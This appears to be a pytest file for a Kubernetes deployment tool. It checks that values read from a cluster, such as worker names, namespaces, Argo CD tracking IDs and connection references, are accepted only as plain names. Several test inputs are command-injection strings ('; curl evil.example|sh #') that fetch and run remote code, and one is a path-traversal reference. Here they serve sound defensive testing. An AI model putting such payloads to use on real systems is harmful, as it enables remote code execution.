"""What is read of an installation names nothing that somebody else may have chosen to be more than a name."""

import asyncio
from collections.abc import Mapping
from dataclasses import replace
from typing import Any, cast

import pytest

from tests.planning.situations import SPEC
from twgen.clients.deadline import Deadline
from twgen.clients.kubernetes import KubernetesClient
from twgen.errors import StateUnavailable
from twgen.reading.installation.cluster import read_orphans
from twgen.reading.installation.installed import read_tick
from twgen.reading.objects import objects_to_import
from twgen.records.intent import intent_of


class Cluster:
    """An API server with lists of objects, by the end of their path."""

    def __init__(self, **lists: list[Mapping[str, Any]]) -> None:
        self.lists = lists
        self.asked: list[str] = []

    async def ask(self, _: str, path: str, *__: object, **___: object) -> tuple[int, Mapping[str, Any]]:
        self.asked.append(path)
        kind = path.rpartition("/")[2]
        return (200, {"items": self.lists[kind]}) if kind in self.lists else (404, {})

    async def deployments(self, *_: object) -> list[Mapping[str, Any]]:
        return []

    def client(self) -> KubernetesClient:
        return cast("KubernetesClient", self)


def version_of(worker: str, namespace: str) -> Mapping[str, Any]:
    labels = {"temporal.io/deployment-name": "payments", "temporal.io/build-id": "v1"}
    annotations = {
        "argocd.argoproj.io/tracking-id": "payments:apps/Deployment:prod/payments-v1",
        "argocd.argoproj.io/sync-options": "Prune=false,Delete=confirm",
        "twgen.io/identity": "twgen/prod",
    }
    variables = [{"name": "TEMPORAL_DEPLOYMENT_NAME", "value": worker}]
    template = {"metadata": {"labels": labels}, "spec": {"containers": [{"name": "w", "env": variables}]}}
    return {
        "metadata": {"name": "d1", "namespace": namespace, "labels": labels, "annotations": annotations},
        "spec": {"replicas": 1, "selector": {"matchLabels": labels}, "template": template},
        "status": {},
    }


@pytest.mark.parametrize(
    ("worker", "namespace", "number"),
    [
        ("prod/payments", "prod", 1),
        ("prod/payments", "attacker", 0),
        ("prod/payments; curl evil.example|sh #", "prod", 0),
        ("noslash", "noslash", 0),
    ],
)
def test_deployment_speaks_for_no_worker_of_another_namespace(
    worker: str, namespace: str, number: int
) -> None:
    cluster = Cluster(deployments=[version_of(worker, namespace)])
    assert len(asyncio.run(read_orphans(cluster.client(), [""], (), Deadline(5)))) == number


def tick_of(namespace: str, looks_at: str) -> Mapping[str, Any]:
    variables = [{"name": "TWGEN_NAMESPACE", "value": looks_at}]
    pod = {"spec": {"containers": [{"name": "tick", "image": "twgen:1", "env": variables}]}}
    return {"metadata": {"name": "twgen-tick", "namespace": namespace}, "spec": {"template": pod}}


def test_tick_is_looked_at_only_where_there_is_one() -> None:
    alone = Cluster(deployments=[tick_of("twgen", "shop")], cronjobs=[])
    found = asyncio.run(read_tick(alone.client(), Deadline(5)))
    assert found
    assert (found.name, found.namespace) == ("Deployment twgen/twgen-tick", "shop")
    two = Cluster(deployments=[tick_of("attacker", "shop"), tick_of("twgen", "shop")], cronjobs=[])
    with pytest.raises(StateUnavailable, match="several: Deployment attacker/twgen-tick, Deployment"):
        asyncio.run(read_tick(two.client(), Deadline(5)))


def test_namespace_of_tick_is_a_name() -> None:
    odd = Cluster(deployments=[tick_of("twgen", "x; curl evil.example|sh #")], cronjobs=[])
    found = asyncio.run(read_tick(odd.client(), Deadline(5)))
    assert found
    assert found.namespace is None


@pytest.mark.parametrize(
    ("tracked", "application"),
    [
        ("payments", "payments"),
        ("team_payments", "team/payments"),
        ("x; curl evil.example|sh #", ""),
        ("a_b_c", ""),
        ("", ""),
    ],
)
def test_application_is_a_name_or_none(tracked: str, application: str) -> None:
    assert replace(intent_of(SPEC, "twgen/me"), application=tracked).argocd_name == application


PODS = {"containers": [{"name": "w", "envFrom": [{"configMapRef": {"name": "settings"}}]}]}
LABELLED = {
    "metadata": {"name": "payments"},
    "spec": {"template": {"metadata": {"labels": {"app": "payments"}}, "spec": PODS}},
}


def scaled(name: str, deployment: str = "payments", **metadata: Any) -> Mapping[str, Any]:
    return {
        "metadata": {"name": name, "namespace": "shop", **metadata},
        "spec": {"scaleTargetRef": {"kind": "Deployment", "name": deployment}},
    }


def budgeted(name: str, app: str) -> Mapping[str, Any]:
    metadata = {"name": name, "namespace": "shop"}
    return {"metadata": metadata, "spec": {"selector": {"matchLabels": {"app": app}}}}


class WithWorker(Cluster):
    """The same, with a Deployment and a ConfigMap; without the right to read these `forbidden` ones."""

    def __init__(self, forbidden: tuple[str, ...] = (), **lists: list[Mapping[str, Any]]) -> None:
        super().__init__(**lists)
        self.forbidden = forbidden

    async def ask(self, _: str, path: str, *__: object, **___: object) -> tuple[int, Mapping[str, Any]]:
        kind, _, name = path.rpartition("/")
        if {kind.rpartition("/")[2], name} & {*self.forbidden}:
            return 403, {"message": f"no right to {path}"}
        if path.endswith("/deployments/payments"):
            return 200, LABELLED
        if path.endswith("/configmaps/settings"):
            return 200, {"metadata": {"name": "settings"}, "data": {"TEMPORAL_HOST": "t:7233"}}
        return await super().ask("GET", path)


def brought(cluster: Cluster) -> list[str]:
    found = asyncio.run(objects_to_import(cluster.client(), "shop", ("payments",), Deadline(5)))
    return [f"{item.value['kind']} {item.value['metadata']['name']}" for item in found.documents]


def test_deployment_brings_what_scales_it_what_protects_its_pods_and_what_they_read() -> None:
    owner = [{"kind": "ScaledObject", "name": "by-queue"}]
    cluster = WithWorker(
        horizontalpodautoscalers=[
            scaled("cpu"),
            scaled("of-others", "reports"),
            scaled("keda-hpa-by-queue", ownerReferences=owner),
        ],
        scaledobjects=[scaled("by-queue")],
        poddisruptionbudgets=[budgeted("one-by-one", "payments"), budgeted("of-others", "reports")],
    )
    assert sorted(brought(cluster)) == [
        "ConfigMap settings",
        "Deployment payments",
        "HorizontalPodAutoscaler cpu",
        "PodDisruptionBudget one-by-one",
        "ScaledObject by-queue",
    ]


def test_object_beside_a_deployment_that_may_not_be_read_is_said_and_the_rest_is_imported() -> None:
    forbidden = ("horizontalpodautoscalers", "configmaps")
    cluster = WithWorker(forbidden, poddisruptionbudgets=[budgeted("one-by-one", "payments")])
    found = asyncio.run(objects_to_import(cluster.client(), "shop", ("payments",), Deadline(5)))
    assert [item.value["kind"] for item in found.documents] == ["Deployment", "PodDisruptionBudget"]
    assert [text.partition(":")[0] for text in found.unread] == [
        "no HorizontalPodAutoscaler is imported",
        "the values in ConfigMap settings are unknown",
    ]


def test_cluster_connection_is_asked_for_by_a_name_alone() -> None:
    reference = {"kind": "ClusterConnection", "name": "../../../../apis/apps/v1/namespaces/x/deployments/db"}
    metadata = {"name": "payments", "namespace": "shop"}
    worker = {"metadata": metadata, "spec": {"workerOptions": {"connectionRef": reference}}}
    cluster = Cluster(workerdeployments=[worker])
    asyncio.run(objects_to_import(cluster.client(), "shop", (), Deadline(5)))
    assert not [path for path in cluster.asked if ".." in path]
